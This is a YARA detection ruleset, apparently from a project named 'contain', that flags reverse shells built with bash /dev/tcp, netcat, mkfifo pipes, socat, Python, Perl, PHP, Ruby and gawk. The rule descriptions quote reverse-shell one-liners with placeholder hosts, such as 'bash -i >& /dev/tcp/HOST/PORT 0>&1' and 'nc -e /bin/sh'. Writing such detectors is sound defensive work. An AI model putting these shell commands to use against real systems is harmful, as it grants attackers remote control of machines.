/*
 * reverse_shells.yar: shells connected back to an attacker (ATT&CK T1059,
 * Command and Scripting Interpreter). Written for contain; see
 * yara-rules/README.md.
 */

rule RevShell_Bash_DevTcp : reverse_shell
{
    meta:
        title = "bash /dev/tcp reverse shell"
        description = "a shell whose standard input and output are bash's /dev/tcp or /dev/udp pseudo-device (bash -i >& /dev/tcp/HOST/PORT 0>&1, exec N<>/dev/tcp/HOST/PORT with sh <&N >&N)"
        severity = "critical"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        author = "contain"

    strings:
        $shell = /sh\s+(-[il]{1,2}\s*)?([0-9]?[<>]&?\s*){1,2}\/dev\/(tcp|udp)\/[A-Za-z0-9.\-:\[\]]{1,253}\/\d{1,5}/ ascii
        $stdin = /\/dev\/(tcp|udp)\/[A-Za-z0-9.\-:\[\]]{1,253}\/\d{1,5}\s+0[<>]&\s*[12]/ ascii
        $rw = /[0-9]{1,3}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-:\[\]]{1,253}\/\d{1,5}/ ascii
        $fdsh = /sh\s+(-i\s*)?[0-9]?<&\s*[0-9]{1,3}\s*[0-9]?>&\s*[0-9]{1,3}/ ascii
        $loop = /while\s+read\s+\w{1,16}\s+0?<&\s*[0-9]{1,3}\s*;\s*do\s+\$\w{1,16}/ ascii
        $loop2 = /do\s+\$\w{1,16}\s+2>&\s*[0-9]{1,3}\s*>&\s*[0-9]{1,3}/ ascii

    condition:
        $shell or $stdin or ($rw and ($fdsh or $loop or $loop2))
}

rule RevShell_Netcat_Exec : reverse_shell
{
    meta:
        title = "netcat running a shell (nc -e)"
        description = "netcat or ncat told to run a shell for its peer (nc -e /bin/sh, ncat --exec, nc -c bash)"
        severity = "critical"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        author = "contain"

    strings:
        $nc = /\bn(c|cat|etcat)(\.traditional|\.openbsd)?\s+([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec|--lua-exec)\s*['"]?(\/usr)?(\/bin\/)?(ba|da|z|k|c|tc|a)?sh\b/ ascii
        $nc2 = /\bn(c|cat|etcat)(\.traditional|\.openbsd)?\s+-[a-z]{0,6}e\s*['"]?\/(usr\/)?bin\/(ba|da|z|k|c|tc|a)?sh\b/ ascii

    condition:
        any of them
}

rule RevShell_Mkfifo_Pipe : reverse_shell
{
    meta:
        title = "named-pipe reverse shell (mkfifo | nc)"
        description = "a named-pipe reverse shell: mkfifo or mknod p, the pipe read by a shell whose output goes to nc, ncat, telnet or openssl s_client"
        severity = "critical"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        author = "contain"

    strings:
        $fifo1 = /mkfifo\s+(-m\s*[0-7]{3,4}\s+)?['"]?\/(tmp|dev\/shm|var\/tmp|run)\/[^\s;|&]{1,64}/ ascii
        $fifo2 = /mknod\s+['"]?\/(tmp|dev\/shm|var\/tmp|run)\/[^\s;|&]{1,64}\s+p\b/ ascii
        $sh = /\|\s*(\/bin\/|\/usr\/bin\/)?(ba|da|z)?sh\s+-i\b/ ascii
        $sh2 = /(\/bin\/|\/usr\/bin\/)?(ba|da|z)?sh\s+-i\s*[0-9]?[<>]\s*\/(tmp|dev\/shm|var\/tmp|run)\// ascii
        $out1 = /\|\s*(nc|ncat|netcat|telnet)\s+[A-Za-z0-9.\-:]{1,253}\s+\d{1,5}/ ascii
        $out2 = /\|\s*openssl\s+s_client\s+(-quiet\s+)?-connect\s+/ ascii
        $out3 = /\b(nc|ncat|netcat|telnet)\s+[A-Za-z0-9.\-:]{1,253}\s+\d{1,5}\s*[0-9]?[<>]\s*\/(tmp|dev\/shm|var\/tmp|run)\// ascii

    condition:
        any of ($fifo*) and any of ($sh*) and any of ($out*)
}

rule RevShell_Socat_Exec : reverse_shell
{
    meta:
        title = "socat reverse shell"
        description = "socat joining a network connection to a shell (socat TCP:HOST:PORT EXEC:'bash -li',pty,stderr,setsid)"
        severity = "critical"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        author = "contain"

    strings:
        $socat = /socat\s+[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/ ascii nocase
        $socat2 = /socat\s+[^\n]{0,40}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b[^\n]{0,200}(tcp|tcp4|tcp6|tcp-connect|openssl|openssl-connect|udp|sctp):/ ascii nocase

    condition:
        any of them
}

rule RevShell_Python_Socket : reverse_shell
{
    meta:
        title = "Python reverse shell"
        description = "a Python reverse shell: a socket connected out whose file descriptors are dup2'd onto 0, 1 and 2 before a shell or pty.spawn"
        severity = "critical"
        attack = "T1059.006"
        reference = "https://attack.mitre.org/techniques/T1059/006/"
        author = "contain"

    strings:
        $sock = "socket.socket(" ascii
        $conn = /\.connect\(\(\s*['"]?[A-Za-z0-9.\-:]{1,253}['"]?\s*,\s*\d{1,5}\s*\)\)/ ascii
        $dup = /os\.dup2\(\s*\w{1,32}\.fileno\(\)\s*,\s*[0-2]\s*\)/ ascii
        $pty = /pty\.spawn\(\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh['"]/ ascii
        $sh1 = /subprocess\.(call|Popen|run)\(\s*\[\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh['"]\s*,\s*['"]-i['"]/ ascii
        $sh2 = /os\.(system|exec[lv]p?e?)\(\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh/ ascii

    condition:
        filesize < 4MB and $sock and $conn and ($dup or $pty) and ($pty or any of ($sh*))
}

rule RevShell_Perl_Socket : reverse_shell
{
    meta:
        title = "Perl reverse shell"
        description = "a Perl reverse shell: a socket connected out (socket/connect or IO::Socket::INET), STDIN/STDOUT/STDERR reopened onto it, then a shell or a command loop"
        severity = "critical"
        attack = "T1059"
        reference = "https://attack.mitre.org/techniques/T1059/"
        author = "contain"

    strings:
        $sock1 = /socket\(\s*\w{1,16}\s*,\s*PF_INET6?\s*,\s*SOCK_STREAM/ ascii
        $sock2 = "IO::Socket::INET" ascii
        $conn = "sockaddr_in(" ascii
        $open1 = /open\(\s*STDIN\s*,\s*['"]>&/ ascii
        $open2 = /open\(\s*STDOUT\s*,\s*['"]>&/ ascii
        $fdopen = /STDIN->fdopen\(\s*\$\w{1,16}\s*,\s*r\s*\)/ ascii
        $exec = /(exec|system)\s*\(?\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh\b/ ascii
        $sysloop = /system\s*\$_\s+while\s*<>/ ascii

    condition:
        filesize < 4MB and
        ((any of ($sock*) and ($conn or $sock2) and all of ($open*) and $exec) or
         ($sock2 and $fdopen and ($exec or $sysloop)))
}

rule RevShell_PHP_Socket : reverse_shell
{
    meta:
        title = "PHP reverse shell"
        description = "a PHP reverse shell: fsockopen or stream_socket_client followed by a shell on the socket's descriptor (exec(\"/bin/sh -i <&3 >&3 2>&3\"), proc_open with the socket as pipes)"
        severity = "critical"
        attack = "T1059"
        reference = "https://attack.mitre.org/techniques/T1059/"
        author = "contain"

    strings:
        $sock1 = /fsockopen\(\s*['"$]/ ascii nocase
        $sock2 = /stream_socket_client\(\s*['"]tcp:\/\// ascii nocase
        $fd = /(ba|da|z)?sh\s+-i\s*<&\s*\d\s*>&\s*\d\s*2>&\s*\d/ ascii
        $proc = /proc_open\(\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh/ ascii nocase
        $run = /(exec|shell_exec|system|passthru|popen)\(\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh\s+-i/ ascii nocase

    condition:
        filesize < 4MB and any of ($sock*) and any of ($fd, $proc, $run)
}

rule RevShell_Ruby_Socket : reverse_shell
{
    meta:
        title = "Ruby reverse shell"
        description = "a Ruby reverse shell: TCPSocket opened to a host whose descriptor feeds a shell (exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f), IO.popen on the socket)"
        severity = "critical"
        attack = "T1059"
        reference = "https://attack.mitre.org/techniques/T1059/"
        author = "contain"

    strings:
        $sock = /TCPSocket\.(new|open)\(\s*['"]?[A-Za-z0-9.\-:]{1,253}['"]?\s*,\s*['"]?\d{1,5}/ ascii
        $fmt = /sh\s+-i\s*<&%d\s*>&%d\s*2>&%d/ ascii
        $popen = /IO\.popen\(\s*\w{1,32}\.gets/ ascii
        $spawn = /spawn\(\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh['"]\s*,\s*\[?\s*:in\s*=>/ ascii
        $exec = /exec\s*\(?\s*['"](\/usr)?(\/bin\/)?(ba|da|z)?sh\s+-i/ ascii

    condition:
        filesize < 4MB and $sock and any of ($fmt, $popen, $spawn, $exec)
}

rule RevShell_Awk_Inet : reverse_shell
{
    meta:
        title = "gawk /inet/tcp reverse shell"
        description = "a gawk reverse shell over its /inet/tcp special file with a remote host and port"
        severity = "high"
        attack = "T1059.004"
        reference = "https://attack.mitre.org/techniques/T1059/004/"
        author = "contain"

    strings:
        $inet = /\/inet[46]?\/tcp\/\d{1,5}\/[A-Za-z0-9.\-:]{1,253}\/\d{1,5}/ ascii

    condition:
        $inet
}
